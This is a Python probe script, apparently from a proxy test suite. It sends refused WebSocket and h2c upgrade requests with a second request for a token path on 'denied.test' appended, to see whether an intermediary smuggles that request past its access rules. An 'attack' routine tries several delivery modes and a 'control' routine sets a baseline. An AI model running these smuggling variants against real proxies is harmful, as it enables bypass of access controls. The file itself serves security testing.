"""Questions for an upgrade that no server grants, and a request behind them."""

from probe import *
from websocket import upgrade

SECOND = request("denied.test", "/" + TOKEN)
PLAIN = upgrade("/")
UPGRADES = [
    upgrade("/ws?refused=1"),
    upgrade("/ws?refused=1", "Upgrade: h2c"),
    upgrade("/ws?refused=1").replace(b"HTTP/1.1", b"HTTP/1.0"),
    PLAIN.replace(b"websocket", b"h2c"),
    PLAIN.replace(b"websocket", b"TLS/1.0"),
    PLAIN.replace(b"websocket", b"websocket, h2c"),
    PLAIN.replace(b"websocket", b"anything"),
    PLAIN.replace(b"GET", b"POST"),
]
FIRST = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"


def later(stream, first):
    with stream:
        stream.sendall(first)
        answer = read(stream, 10)
        stream.sendall(SECOND)
        return answer + read(stream)


def control():
    patience(1)
    for first in UPGRADES:
        attempt(lambda: later(dial("allowed.test", 80), first))


def attack():
    patience(1)
    for first in UPGRADES:
        say("at once", send("allowed.test", 80, first + SECOND))
        say("at once", tunnel("allowed.test:80", first + SECOND))
        say("second", send("allowed.test", 80, FIRST + first + SECOND))
        say("later", attempt(lambda: later(dial("allowed.test", 80), first)))
        say("later", attempt(lambda: later(connect("allowed.test:80")[0], first)))


start(attack, control)
